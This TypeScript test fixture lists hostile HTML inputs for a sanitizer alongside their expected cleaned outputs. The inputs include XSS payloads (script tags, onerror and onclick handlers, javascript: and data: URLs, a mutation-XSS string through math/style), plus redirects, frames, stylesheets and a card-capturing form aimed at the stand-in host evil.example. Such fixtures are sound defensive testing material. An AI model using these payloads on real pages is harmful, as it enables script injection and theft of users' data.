/** Markup with active content, and the part of it that may remain. */
export const HOSTILE_MARKUP: readonly (readonly [name: string, html: string, clean: string])[] = [
  ["a script", "<p>a<script>alert(1)</script></p>", "<p>a</p>"],
  ["an event handler", '<p onclick="alert(1)">a</p>', "<p>a</p>"],
  ["a picture with an error handler", "<p>a<img src=x onerror=alert(1)></p>", "<p>a</p>"],
  [
    "a redirect",
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>a</p>',
    "<p>a</p>",
  ],
  ["a base address", '<base href="https://evil.example/"><p>a</p>', "<p>a</p>"],
  ["a form", '<form action="https://evil.example"><input name="card"><p>a</p></form>', "<p>a</p>"],
  ["a frame", '<p>a</p><iframe src="https://evil.example">b</iframe>', "<p>a</p>"],
  ["a style sheet", "<style>body{display:none}</style><p>a</p>", "<p>a</p>"],
  [
    "a linked style sheet",
    '<link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>',
    "<p>a</p>",
  ],
  [
    "a cover over the page",
    '<p style="position:fixed;inset:0" class="solid" id="main">a</p>',
    "<p>a</p>",
  ],
  ["an address with a script", '<p><a href="javascript:alert(1)">a</a></p>', "<p><a>a</a></p>"],
  [
    "an address with a hidden script",
    '<p><a href="java&#9;script:alert(1)">a</a></p>',
    "<p><a>a</a></p>",
  ],
  ["an address with data", '<p><a href="data:text/html,x">a</a></p>', "<p><a>a</a></p>"],
  ["an address without a scheme", '<p><a href="//evil.example">a</a></p>', "<p><a>a</a></p>"],
  [
    "a link into another frame",
    '<p><a href="/x" target="_top">a</a></p>',
    '<p><a href="/x">a</a></p>',
  ],
  ["an object", '<object data="x.swf"><p>b</p></object><p>a</p>', "<p>a</p>"],
  [
    "a mutation through math",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "",
  ],
  ["content of svg", "<svg><desc><p onclick=alert(1)>b</p></desc></svg><p>a</p>", "<p>a</p>"],
  ["a data attribute", '<p data-action="x" aria-label="y" role="alert">a</p>', "<p>a</p>"],
];
